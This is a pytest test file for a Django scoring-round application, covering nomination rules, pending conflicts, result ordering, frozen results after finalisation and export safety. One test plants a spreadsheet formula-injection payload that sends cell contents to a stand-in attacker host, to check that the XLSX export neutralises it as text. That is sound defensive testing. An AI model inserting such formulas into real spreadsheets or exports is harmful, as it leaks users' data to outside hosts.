"""Results and finalisation as the secretariat reaches them: the nomination rule, pending
conflicts, one order for live and finalised results, a frozen snapshot, safe exports."""

import io

import pytest
from django.urls import reverse
from django.utils.translation import gettext
from openpyxl import load_workbook

from danvan.enums import UnitKind
from evaluation import selectors, services
from evaluation.enums import Aggregation, ConflictStatus, RankBy, RoundStatus
from evaluation.models import Assignment, Result, Round, RoundEntry, ScoreSheet
from models_registry.models import DvkModel
from tests.factories import CommitteeFactory, RoundEntryFactory, RoundFactory, UnitFactory
from tests.factories.evaluation import single_criterion_rubric
from tests.factories.registry import days

from .helpers import scored_round

pytestmark = pytest.mark.django_db


def _results_url(round_, **query):
    url = reverse("evaluation:round_results", args=[round_.pk])
    return url + ("?" + "&".join(f"{k}={v}" for k, v in query.items()) if query else "")


def _xlsx_rows(response) -> list[tuple]:
    book = load_workbook(io.BytesIO(response.content))
    return list(book.active.iter_rows(values_only=True))


# --- Nomination: one rule for the page and the POST ---------------------------------------


def test_nominate_crafted_post_in_provincial_round_refused(client, people, round_, committee):
    """Issue 7: the page hides "nominate" in a provincial round; a crafted POST must not
    nominate either (the rule, not the template, has the condition)."""
    scored_round(round_, committee, [[95]], by=people.secretariat)
    services.round_finalise(round=round_, by=people.secretariat)
    result = Result.objects.get(round=round_)
    assert result.recognised
    client.force_login(people.secretariat)

    page = client.get(_results_url(round_))
    response = client.post(
        reverse("evaluation:result_nominate", args=[round_.pk, result.pk]), {"nominated": "1"}
    )

    assert page.context["can_nominate"] is False
    assert response.status_code == 404
    assert RoundEntry.objects.get(pk=result.entry_id).nominated is False


def test_nominate_commune_round_page_offers_it_and_post_nominates(
    client, people, campaign, commune
):
    commune_round = services.round_create(
        campaign=campaign,
        scope_unit=commune,
        by=people.secretariat,
        data={
            "name": "Đợt chấm cấp xã",
            "rubric_collective": single_criterion_rubric(organiser=commune),
            "scoring_opens": days(-1),
            "scoring_closes": days(5),
        },
    )
    village = UnitFactory(parent=commune, kind=UnitKind.RESIDENTIAL)
    scored_round(
        commune_round, CommitteeFactory(unit=commune), [[95]], by=people.secretariat, unit=village
    )
    services.round_finalise(round=commune_round, by=people.secretariat)
    result = Result.objects.get(round=commune_round)
    client.force_login(people.secretariat)

    page = client.get(_results_url(commune_round))
    client.post(
        reverse("evaluation:result_nominate", args=[commune_round.pk, result.pk]),
        {"nominated": "1"},
    )

    assert page.context["can_nominate"] is True
    assert RoundEntry.objects.get(pk=result.entry_id).nominated is True


# --- Finalising with conflicts pending ----------------------------------------------------


@pytest.fixture
def declared(round_, committee, people):
    """An open round of two scored models where one reviewer declared a conflict (after
    submitting) that nobody has decided yet."""
    entries, _members = scored_round(round_, committee, [[90], [60]], by=people.secretariat)
    assignment = Assignment.objects.get(entry=entries[0])
    Assignment.objects.filter(pk=assignment.pk).update(
        conflict_status=ConflictStatus.DECLARED, conflict_reason="Người nhà"
    )
    return assignment


def test_round_finalise_with_pending_conflict_refused(round_, people, declared):
    """Issue 8 item 6: a sheet whose conflict is declared but not decided would be frozen
    into the result, and the conflict could never be decided afterwards."""
    with pytest.raises(services.EvaluationError) as caught:
        services.round_finalise(round=round_, by=people.secretariat, force=True)

    assert "1" in str(caught.value)
    round_.refresh_from_db()
    assert round_.status == RoundStatus.OPEN
    assert not Result.objects.filter(round=round_).exists()


def test_finalise_page_lists_pending_conflicts_with_links(client, round_, people, declared):
    """Issue 8 item 6: the confirmation page names each pending conflict and links to it."""
    client.force_login(people.secretariat)
    url = reverse("evaluation:round_finalise", args=[round_.pk])

    page = client.get(url)
    response = client.post(url, {"force": "on"})

    assert list(page.context["conflicts"]) == [declared]
    link = reverse("evaluation:round_assignments", args=[round_.pk]) + f"#conflict-{declared.pk}"
    assert link in page.content.decode()
    assert response.status_code == 200
    assert response.context["form"].non_field_errors()
    round_.refresh_from_db()
    assert round_.status == RoundStatus.OPEN


def test_round_finalise_after_conflict_decided_succeeds(round_, people, declared):
    services.assignment_resolve_conflict(assignment=declared, approve=False, by=people.secretariat)

    services.round_finalise(round=round_, by=people.secretariat)

    round_.refresh_from_db()
    assert round_.status == RoundStatus.FINALISED


def test_finalise_page_post_on_finalised_round_404(client, round_, committee, people):
    """A finalised round cannot be finalised again, by the page either."""
    scored_round(round_, committee, [[90]], by=people.secretariat)
    services.round_finalise(round=round_, by=people.secretariat)
    client.force_login(people.secretariat)

    response = client.post(reverse("evaluation:round_finalise", args=[round_.pk]), {})

    assert response.status_code == 404
    assert Result.objects.filter(round=round_).count() == 1


# --- One order for live and finalised results ---------------------------------------------


def test_final_results_same_order_as_live_groups_ties_unscored_last(
    campaign, committee, people, province
):
    """Issue 8 item 7: collectives then individuals, each by rank, unscored entries last and
    ties by entry — live and finalised alike, on SQLite and PostgreSQL."""
    round_ = RoundFactory(
        campaign=campaign,
        created_by=people.secretariat,
        rubric_individual=single_criterion_rubric(organiser=province, applies_to="individual"),
        admit_individual_exemplars=True,
    )
    collectives, _ = scored_round(round_, committee, [[80], [80], [None]], by=people.secretariat)
    individuals, _ = scored_round(round_, committee, [[90]], by=people.secretariat, individual=True)
    # Names that would sort the tie the other way round.
    DvkModel.objects.filter(pk=collectives[0].dvk_model_id).update(name="Zz mô hình")
    DvkModel.objects.filter(pk=collectives[1].dvk_model_id).update(name="Aa mô hình")
    expected = [collectives[0].pk, collectives[1].pk, collectives[2].pk, individuals[0].pk]

    live = [row.entry_id for row in selectors.round_results(round=round_)]
    services.round_finalise(round=round_, by=people.secretariat)
    final = [row.entry_id for row in selectors.final_results(round=round_)]

    assert live == expected
    assert final == expected
    assert [r.rank for r in selectors.final_results(round=round_)] == [1, 1, None, 1]


# --- A finalised round's page and export do not change ------------------------------------


def _snapshot(client, round_):
    page = client.get(_results_url(round_))
    rows = [
        (r.entry_id, r.rank, r.score_used, r.tier_name, r.recognised) for r in page.context["rows"]
    ]
    return (
        rows,
        dict(page.context["policy"]),
        _xlsx_rows(client.get(_results_url(round_, format="xlsx"))),
    )


def test_finalised_results_page_and_export_cannot_change_afterwards(
    client, round_, committee, people
):
    """Issue 8 item 8: neither the forms and services nor a change that bypasses them
    (the round's policy, a sheet's total) changes a finalised round's page or export: they
    read the snapshot, with the policy captured at finalisation."""
    scored_round(round_, committee, [[90, 70], [60, 64]], by=people.secretariat)
    services.round_finalise(round=round_, by=people.secretariat)
    client.force_login(people.secretariat)
    before = _snapshot(client, round_)

    form_post = client.post(
        reverse("evaluation:round_update", args=[round_.pk]),
        {"name": round_.name, "aggregation": Aggregation.MEDIAN, "rank_by": RankBy.CALIBRATED},
    )
    with pytest.raises(services.EvaluationError):
        services.round_update(
            round=round_, by=people.secretariat, data={"aggregation": Aggregation.MEDIAN}
        )
    with pytest.raises(services.EvaluationError):
        services.round_finalise(round=round_, by=people.secretariat)
    Round.objects.filter(pk=round_.pk).update(
        aggregation=Aggregation.MEDIAN, rank_by=RankBy.CALIBRATED
    )
    ScoreSheet.objects.filter(assignment__round=round_).update(total=5)
    after = _snapshot(client, round_)

    assert form_post.status_code == 404
    assert after == before
    assert before[1]["rank_by"] == RankBy.RAW
    assert before[2][1][0] == gettext("Ranked by: %(rank_by)s; aggregation: %(aggregation)s") % {
        "rank_by": RankBy.RAW.label,
        "aggregation": Aggregation.MEAN.label,
    }


# --- Export and bulk input ----------------------------------------------------------------


def test_results_xlsx_model_name_starting_with_equals_is_text(client, round_, committee, people):
    """Issue 8 item 9: a model name starting with "=" is a text cell, never a formula."""
    entries, _ = scored_round(round_, committee, [[88]], by=people.secretariat)
    name = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'
    DvkModel.objects.filter(pk=entries[0].dvk_model_id).update(name=name)
    client.force_login(people.secretariat)

    response = client.get(_results_url(round_, format="xlsx"))

    book = load_workbook(io.BytesIO(response.content))
    cell = book.active.cell(row=5, column=2)
    assert cell.data_type == "s"
    assert cell.value == "'" + name
    assert response["Content-Disposition"].startswith("attachment;")


def test_bulk_assign_unicode_digit_ids_show_error_not_500(client, people, round_, members):
    """Issue 8 item 14: "²".isdigit() is true but int("²") fails."""
    RoundEntryFactory(round=round_)
    client.force_login(people.secretariat)

    response = client.post(
        reverse("evaluation:assignments_bulk", args=[round_.pk]),
        {"entries": ["²"], "reviewers": ["³", str(members[0].user.pk)]},
    )

    assert response.status_code == 200
    assert response.context["bulk_form"].errors["entries"]
    assert response.context["checked_reviewers"] == {members[0].user.pk}
    assert not Assignment.objects.filter(round=round_).exists()
